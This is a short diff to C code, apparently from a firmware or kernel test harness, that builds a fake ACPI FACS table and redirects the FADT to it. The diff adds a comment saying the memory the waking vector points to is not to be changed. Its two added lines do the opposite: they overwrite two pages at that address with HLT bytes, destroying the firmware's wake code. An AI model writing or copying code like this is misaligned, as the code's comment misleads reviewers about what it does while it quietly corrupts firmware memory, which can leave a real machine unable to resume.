@@ -184,11 +184,13 @@ static void use_facs(u8 *facs)
 	*lock = 0;
 }
 
-/* A firmware that looks for the FACS anew must not find one of ours. */
+/* A firmware that looks for the FACS anew must not find one of ours, and what the vector leads to is not ours to change. */
 static void lead_astray(u8 *facs)
 {
 	u8 *fadt = table_of(0x50434146), *fake = page_alloc();
 
+	if (*(volatile u32 *)(facs + 12))
+		set_bytes((void *)(u64)*(volatile u32 *)(facs + 12), 0xf4, 2 * PAGE_SIZE);
 	copy_bytes(fake, facs, 64);
 	*(u32 *)(fake + 12) = LOW_CODE;
 	*(volatile u32 *)(fadt + 36) = (u32)(u64)fake;
